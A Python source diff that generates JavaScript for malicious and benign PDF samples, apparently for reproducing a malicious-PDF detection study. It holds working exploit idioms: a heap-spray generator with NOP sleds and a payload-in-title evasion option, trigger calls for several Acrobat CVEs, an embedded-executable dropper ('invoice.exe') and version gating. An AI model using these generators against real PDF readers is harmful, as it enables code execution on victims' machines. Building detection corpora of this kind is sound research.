@@ -1,0 +1,187 @@
+"""JavaScript source generators used by the corpus factories.
+
+All snippets are real JavaScript executed by :mod:`repro.js`; the
+malicious ones reproduce the idioms of in-the-wild samples (unescape
+NOP sleds, doubling loops, substr block copies, version gating,
+metadata-hidden shellcode).
+"""
+
+from __future__ import annotations
+
+import random
+from typing import Optional
+
+from repro.reader.payload import Payload
+
+#: Characters per spray chunk (0x20000 = 128 Ki chars = 256 KiB UTF-16).
+CHUNK_CHARS = 0x20000
+
+
+def escape_for_js(text: str) -> str:
+    """Escape a payload block for inclusion in a double-quoted literal."""
+    return (
+        text.replace("\\", "\\\\")
+        .replace('"', '\\"')
+        .replace("\n", "\\n")
+        .replace("\r", "\\r")
+    )
+
+
+def spray_script(
+    target_mb: int,
+    payload: Payload,
+    rng: Optional[random.Random] = None,
+    chunk_chars: int = CHUNK_CHARS,
+    exploit_call: str = "",
+    hide_payload_in_title: bool = False,
+    export_chunk_as: str = "",
+) -> str:
+    """A heap-spray routine filling ``target_mb`` MB of heap.
+
+    Uses the classic pattern: unescape a NOP unit, double it to chunk
+    size, append the payload, then copy the chunk N times with the
+    ``substr`` re-allocation idiom.  When ``hide_payload_in_title`` is
+    set the payload block is read from ``this.info.title`` instead of a
+    literal (the syntax-obfuscation trick MDScan-style extractors miss,
+    §II).
+    """
+    rng = rng if rng is not None else random.Random(0)
+    blocks = max(1, (target_mb * 1024 * 1024) // (chunk_chars * 2))
+    sled_var = f"s{rng.randint(100, 999)}"
+    chunk_var = f"c{rng.randint(100, 999)}"
+    arr_var = f"m{rng.randint(100, 999)}"
+    if hide_payload_in_title:
+        payload_expr = "this.info.title"
+    else:
+        payload_expr = f'"{escape_for_js(payload.with_sled(32))}"'
+    lines = [
+        f'var {sled_var} = unescape("%u9090%u9090%u9090%u9090");',
+        f"while ({sled_var}.length < {chunk_chars}) {sled_var} += {sled_var};",
+        f"var {chunk_var} = {sled_var}.substring(0, {chunk_chars - 2048}) + {payload_expr};",
+        f"var {arr_var} = [];",
+        f"for (var i = 0; i < {blocks}; i++) {{",
+        f"  {arr_var}[i] = {chunk_var}.substr(0, {chunk_var}.length);",
+        "}",
+    ]
+    if export_chunk_as:
+        # Expose the chunk under a stable name for a follow-up script
+        # (two-stage samples exploit from a second script).
+        lines.append(f"var {export_chunk_as} = {chunk_var};")
+    if exploit_call:
+        lines.append(exploit_call.replace("__CHUNK__", chunk_var))
+    return "\n".join(lines)
+
+
+def exploit_call_for(cve: str, rng: Optional[random.Random] = None) -> str:
+    """The vulnerable-API invocation idiom for each JavaScript CVE.
+
+    ``__CHUNK__`` is substituted with the spray chunk variable by
+    :func:`spray_script`.
+    """
+    rng = rng if rng is not None else random.Random(0)
+    calls = {
+        "CVE-2007-5659": 'Collab.collectEmailInfo({msg: __CHUNK__.substr(0, 8192)});',
+        "CVE-2008-2992": 'util.printf("%45000.45000f", 362.0e-30);',
+        "CVE-2009-0927": "Collab.getIcon(__CHUNK__.substr(0, 4096) + \"_N.bundle\");",
+        "CVE-2009-4324": 'this.media.newPlayer(__CHUNK__.substr(0, 4096));',
+        "CVE-2010-4091": "this.printSeps(__CHUNK__.substr(0, 8192));",
+        "CVE-2009-1492": 'this.getAnnots({nPage: 284050648});',
+    }
+    return calls.get(cve, "Collab.getIcon(__CHUNK__.substr(0, 4096));")
+
+
+def failing_probe_script(cve: str) -> str:
+    """Samples whose CVE misses Acrobat 8/9 "did nothing when opened"
+    (§V-C2): they probe for an API surface the old readers lack and die
+    on the resulting TypeError before spraying anything."""
+    probes = {
+        "CVE-2009-1492": "var a = this.hostContainer.postMessage;",
+        "CVE-2013-0640": "var t = this.xfaHost.template.resolveNode('form');",
+    }
+    probe = probes.get(cve, "var z = this.missingApiSurface.probe;")
+    return probe + "\n// unreached: spray + exploit for " + cve
+
+
+def egg_hunt_script(target_mb: int, payload: Payload, rng: random.Random, cve: str) -> str:
+    """Spray + exploit where the payload egg-hunts the embedded malware."""
+    return spray_script(
+        target_mb, payload, rng=rng, exploit_call=exploit_call_for(cve, rng)
+    )
+
+
+def export_launch_script(attachment: str = "invoice.exe") -> str:
+    """No-exploit dropper: exports an embedded file and launches it."""
+    return (
+        f'this.exportDataObject({{cName: "{attachment}", nLaunch: 2}});'
+    )
+
+
+def version_gated(script: str, min_version: int) -> str:
+    """Wrap a script so it only runs on newer readers (targeted malware)."""
+    return (
+        f"if (app.viewerVersion >= {min_version}) {{\n{script}\n}}"
+    )
+
+
+# ---------------------------------------------------------------------------
+# Benign scripts
+
+
+def benign_report_script(iterations: int, line_chars: int, rng: random.Random) -> str:
+    """Builds a report string — the main benign memory consumer (1–21 MB)."""
+    word = "".join(rng.choice("abcdefghij") for _ in range(8))
+    return "\n".join(
+        [
+            f'var line = "{word}";',
+            f"while (line.length < {line_chars}) line += line;",
+            "var rows = [];",
+            f"for (var i = 0; i < {iterations}; i++) {{",
+            "  rows[rows.length] = line.substr(0, line.length - (i % 7));",
+            "}",
+            'var report = rows.join("\\n");',
+            "report.length;",
+        ]
+    )
+
+
+def benign_form_script(rng: random.Random) -> str:
+    field = rng.choice(["total", "amount", "qty", "price"])
+    return "\n".join(
+        [
+            f'var f = this.getField("{field}");',
+            'var v = f.value === "" ? 0 : parseFloat(f.value);',
+            "if (isNaN(v) || v < 0) {",
+            f'  app.alert("Please enter a valid {field}.");',
+            "}",
+        ]
+    )
+
+
+def benign_date_script(rng: random.Random) -> str:
+    return "\n".join(
+        [
+            'var stamp = util.printd("yyyy/mm/dd", "now");',
+            'var label = util.printf("Printed on %s", stamp);',
+            "label.length;",
+        ]
+    )
+
+
+def benign_page_script() -> str:
+    return "var pages = this.numPages; if (pages < 1) { app.alert('empty'); }"
+
+
+def benign_soap_script(endpoint: str = "http://forms.example.org:8080/status") -> str:
+    """The one benign sample that makes a JS-context network access
+    (§V-C2: a SOAP status check — F9 fires, nothing else, still benign)."""
+    return "\n".join(
+        [
+            f'var svc = SOAP.request({{cURL: "{endpoint}", '
+            'oRequest: {action: "status", form: this.documentFileName}});',
+            "var ok = svc ? 1 : 0;",
+        ]
+    )
+
+
+def benign_multiscript_part(index: int) -> str:
+    return f'var part{index} = {index}; part{index} + 1;'
